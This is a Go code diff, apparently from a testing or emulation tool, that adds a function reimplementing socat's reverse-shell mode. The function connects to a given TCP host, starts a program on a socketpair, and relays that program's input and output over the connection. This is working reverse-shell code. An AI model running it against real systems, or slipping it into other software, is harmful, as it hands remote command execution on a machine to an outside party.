@@ -277,3 +277,45 @@ func dockerPing() error {
 	fmt.Println("docker API answered /_ping")
 	return nil
 }
+
+// socat is a stand-in for socat's "EXEC:PROG TCP:HOST:PORT" reverse shell:
+// it connects, starts PROG on one end of a socketpair as socat does (so the
+// program's stdio is a unix socket, not the TCP one) and relays between the
+// pair and the connection until PROG exits.
+func socat(args []string) error {
+	var prog, addr string
+	for _, a := range args {
+		l := strings.ToLower(a)
+		switch {
+		case strings.HasPrefix(l, "exec:"), strings.HasPrefix(l, "system:"):
+			prog = a[strings.IndexByte(a, ':')+1:]
+		case strings.HasPrefix(l, "tcp:"), strings.HasPrefix(l, "tcp-connect:"):
+			addr = a[strings.IndexByte(a, ':')+1:]
+		}
+	}
+	argv := strings.Fields(prog)
+	if len(argv) == 0 || addr == "" {
+		return errors.New("usage: socat EXEC:PROG TCP:HOST:PORT")
+	}
+	conn, err := net.DialTimeout("tcp", addr, 2*time.Second)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	fds, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err
+	}
+	ours, theirs := os.NewFile(uintptr(fds[0]), "socat"), os.NewFile(uintptr(fds[1]), "exec")
+	defer ours.Close()
+	cmd := exec.Command(argv[0], argv[1:]...)
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = theirs, theirs, theirs
+	err = cmd.Start()
+	theirs.Close()
+	if err != nil {
+		return err
+	}
+	go func() { _, _ = io.Copy(ours, conn) }()
+	_, _ = io.Copy(conn, ours) // until the program exits
+	return cmd.Wait()
+}
